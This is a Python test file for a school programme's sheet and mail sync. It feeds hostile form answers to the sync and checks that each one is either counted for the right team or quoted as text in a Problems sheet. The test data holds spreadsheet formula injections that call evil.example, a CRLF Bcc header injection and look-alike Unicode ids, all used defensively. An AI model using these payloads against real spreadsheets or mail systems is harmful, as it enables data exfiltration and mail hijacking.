"""Hostile answers to an evidence form (Belmont's checkpoint, tests/programme.py): formulas,
line breaks and look-alikes in the Unit ID, answers from outside the district or from a
person in two teams. Each answer either counts for exactly the team the documented rule
names (the id it gives, in any case and spacing; without one, its sender's only team) or
is an open Problems row quoting it as typed, written to the sheet as text.

One programme, six teams, synced once on the day the checkpoint reminders go out and
again to prove a quiet re-run changes nothing.
"""
from __future__ import annotations

from dataclasses import dataclass
from email import message_from_bytes, policy
from urllib.parse import parse_qs, urlsplit

import pytest
from gspread.utils import ValueRenderOption

from emulator.core import Emulator
from emulator.server import EmulatorServer
from hostile_traffic import SheetTraffic
from oracle import team_id
from programme import CHECKPOINT, DOMAIN, Programme, at, checkpoint_form
from sheets import layout as L
from sync.google.workspace import SCOPES
from test_hostile_corpus import ALLOWED_HEADERS, raw_messages

TEAMS = {"ana": "sam", "ben": "kim", "cy": "lou", "dee": "al", "eve": "bo", "fay": "cal"}
SAM_TOO = "ben"                       # Sam is in Ana's team and in Ben's: two teams
REMINDER_DAY = at("2017-12-01 09:00")  # a week before the checkpoint, due 2017-12-08


def person(name: str) -> str:
    return f"{name}.staff@{DOMAIN}"


def tid(name: str) -> str:
    return team_id(person(name))


@dataclass(frozen=True)
class Answer:
    key: str
    why: str
    sender: str
    unit_id: str
    counts_for: str = ""      # the team (its facilitator's name) it must count for; "" for none
    because: str = ""         # part of the reason of its open Problems row, when it counts for none
    progress: str = "Annotation helps."


ANSWERS = (
    Answer("lower-spaced", "the id typed by hand: lower case, spaces around", person("ana"),
           f"  {tid('ana').lower()}  ", counts_for="ana"),
    Answer("zero-width", "an id pasted with a zero-width space inside", person("eve"),
           tid("eve")[:4] + "\u200b" + tid("eve")[4:], counts_for="eve"),
    Answer("other-team", "a member answers for another team by its id: the id decides", person("kim"),
           tid("cy"), counts_for="cy"),
    Answer("upper-sender", "no id; the sender's address in capitals is still their only team",
           person("al").upper(), "", counts_for="dee"),
    Answer("formula-progress", "a formula in the free-text answer", person("ben"), tid("ben"),
           counts_for="ben", progress='=IMPORTXML("http://evil.example/x","//a")'),
    Answer("formula-id", "a formula as the Unit ID must not count for the sender's team", person("fay"),
           '=HYPERLINK("http://evil.example","PLT-1")', because="which is no current team"),
    Answer("bcc-id", "CR LF and a Bcc header in the Unit ID", person("fay"),
           f"{tid('fay')}\r\nBcc: victim@evil.example", because="which is no current team"),
    Answer("greek-id", "an id in look-alike Greek capitals", person("fay"),
           tid("fay").replace("A", "\u0391").replace("E", "\u0395").replace("P", "\u03a1"),
           because="which is no current team"),
    Answer("long-id", "50,001 characters as the Unit ID", person("fay"), "PLT-" + "X" * 49_997,
           because="which is no current team"),
    Answer("two-teams", "no id, from a person in two teams", person("sam"), "", because="is in 2 teams"),
    Answer("stranger", "no id, from a person in no team", f"visitor@{DOMAIN}", "", because="its sender is in none"),
    Answer("outside", "no id, from outside the district's domains", "someone@evil.example", "",
           because="outside the allowed domains"),
    Answer("outside-with-id", "a team's id from outside the district's domains", "someone@evil.example",
           tid("fay"), because="outside the allowed domains"),
)


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    with EmulatorServer(Emulator(validate_responses=True, scopes=SCOPES)) as server:
        programme = Programme.create(server.url, tmp_path_factory.mktemp("hostile-evidence"),
                                     edit=lambda text: text + checkpoint_form("2017-12-08"),
                                     config="programmes/belmont.toml")
        for name, member in TEAMS.items():
            members = f"{member.title()} Staff <{person(member)}>"
            if name == SAM_TOO:
                members += f"\nSam Staff <{person('sam')}>"
            programme.submit(name.title(), "Staff", team=f"{name.title()} PLT", members=members,
                             submitted="2017-10-02T14:00:00Z")
        programme.sync(at("2017-10-10 09:00"))
        ids = {a.key: programme.answer("checkpoint", a.sender, {"unit_id": a.unit_id, "progress": a.progress},
                                       f"2017-11-20T15:{i:02d}:00Z") for i, a in enumerate(ANSWERS)}
        with SheetTraffic() as traffic:
            first = programme.sync(REMINDER_DAY)
        again = programme.sync(at("2017-12-01 09:30"))
        book = programme.workspace().gspread.open_by_key(programme.settings().roster.spreadsheet_id)
        problems = book.worksheet(L.PROBLEMS).get(value_render_option=ValueRenderOption.formula, pad_values=True)
        yield {"programme": programme, "ids": ids, "first": first, "again": again, "traffic": traffic,
               "roster": programme.records(L.ROSTER),
               "problems": [dict(zip(problems[0], row)) for row in problems[1:]],
               "raw_mail": raw_messages(programme)}


def status_of(run, name: str) -> str:
    [row] = [r for r in run["roster"] if r[L.TEAM_ID] == tid(name)]
    return row[L.status_header(CHECKPOINT)]


def open_problems(run, key: str) -> list[dict]:
    return [p for p in run["problems"] if p["Response ID"] == run["ids"][key] and p["Status"] == "open"]


def test_the_run_succeeds_and_each_team_is_received_exactly_when_an_answer_counts_for_it(run):
    assert run["first"].exit_code == 0, run["first"].failures
    counted = {a.counts_for for a in ANSWERS if a.counts_for}
    assert counted == {"ana", "ben", "cy", "dee", "eve"}
    for name in TEAMS:
        assert (status_of(run, name) == "received") == (name in counted), name


@pytest.mark.parametrize("answer", ANSWERS, ids=[a.key for a in ANSWERS])
def test_a_hostile_answer_counts_for_its_team_or_is_an_open_problem_quoting_it(run, answer):
    mine = open_problems(run, answer.key)
    if answer.counts_for:
        assert mine == []
        return
    assert any(answer.because in p["Reason"] for p in mine), [p["Reason"] for p in mine]
    # Written as text: the formula a sender typed reads back as typed, never evaluated.
    if answer.key == "formula-id":
        assert any(p["Value"] == answer.unit_id for p in mine), mine


def test_no_sheets_request_carries_a_formula_or_user_entered_input(run):
    writes = run["traffic"].sheet_writes()
    assert any("=HYPERLINK" in request.body for request in writes)
    for request in writes:
        assert "formulaValue" not in request.body
        assert "USER_ENTERED" not in request.url and "USER_ENTERED" not in request.body


def test_the_one_team_still_due_is_reminded_with_its_own_id_and_only_its_own_headers(run):
    reminders = [m for m in run["programme"].mail() if CHECKPOINT.lower() in m["subject"].lower()]
    assert [m["to"] for m in reminders] == [[person("fay")]]
    link = next(word for word in reminders[0]["text"].split() if "usp=pp_url" in word)
    assert [tid("fay")] in parse_qs(urlsplit(link).query).values()
    for raw in run["raw_mail"]:
        message = message_from_bytes(raw, policy=policy.default)
        assert {name.lower() for name in message.keys()} <= ALLOWED_HEADERS
        assert "evil.example" not in str(message["To"]) and message["Bcc"] is None


def test_a_second_run_changes_nothing(run):
    again = run["again"]
    assert again.exit_code == 0
    assert again.problems["new"] == 0 and again.reminders["sent"] == 0
    assert again.api_calls["write"] == 1
